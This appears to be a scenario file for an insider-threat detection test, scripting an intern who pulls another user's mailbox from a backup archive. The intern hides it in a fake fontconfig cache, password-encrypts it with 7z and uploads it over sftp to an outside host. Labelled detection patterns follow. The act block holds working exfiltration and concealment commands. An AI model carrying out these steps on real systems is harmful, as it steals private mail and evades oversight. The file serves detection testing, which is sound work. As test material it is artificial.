title="Another's mail taken out of last night's backup archive, sent by lftp over sftp"
what="intern, who may read the archives in /var/backups (group backup), unpacks buyer's Maildir from it into a cache folder, packs it with a password and puts it to an outside host by lftp (sftp). Before and after: ordinary work."
user=intern daemons="cron sshd"
setup() {
  outside_sshd
  sed -i 's/^backup:x:\([0-9]*\):.*/backup:x:\1:intern/' /etc/group
  printf 'Host vault\n  HostName 203.0.113.67\n  Port 2222\n  User root\n  IdentityFile ~/.ssh/id_out\n  StrictHostKeyChecking no\n  UserKnownHostsFile /dev/null\n' | own_file /home/intern/.ssh/config
  mkdir -p /home/intern/notes; echo plan > /home/intern/notes/plan.txt; chown -R intern: /home/intern/notes
}
act() {
  small_talk 3; letters buyer 7
  tar -C / -czf /var/backups/home-nightly.tar.gz home; chgrp backup /var/backups/home-nightly.tar.gz; chmod 640 /var/backups/home-nightly.tar.gz
  ssh_as intern <<'L'
ls notes; cat notes/plan.txt
ls -l /var/backups
tar tzf /var/backups/home-nightly.tar.gz | grep -c buyer
mkdir -p ~/.cache/fontconfig/x
tar xzf /var/backups/home-nightly.tar.gz -C ~/.cache/fontconfig/x --strip-components=2 home/buyer/Maildir
cd ~/.cache/fontconfig
7z a -pSommer24 -mhe=on fc.bin x > /dev/null
rm -r x
%sleep 3
lftp -e 'put fc.bin -o /tmp/fc.bin; bye' sftp://vault
rm fc.bin; cd
vi -c q notes/plan.txt
L
  small_talk 1
}
truth() {
  exec_step unpack 'tar xzf /var/backups/home-nightly.tar.gz .*buyer/Maildir' 'mail of another comes out of the archive'
  exec_step pack '7z.* a -pSommer24' 'packed with a password'
  exec_step leave 'lftp -e put fc.bin' 'put to the outside'
  net_step ssh 'ssh 203.0.113.67:2222' 'by ssh'
}
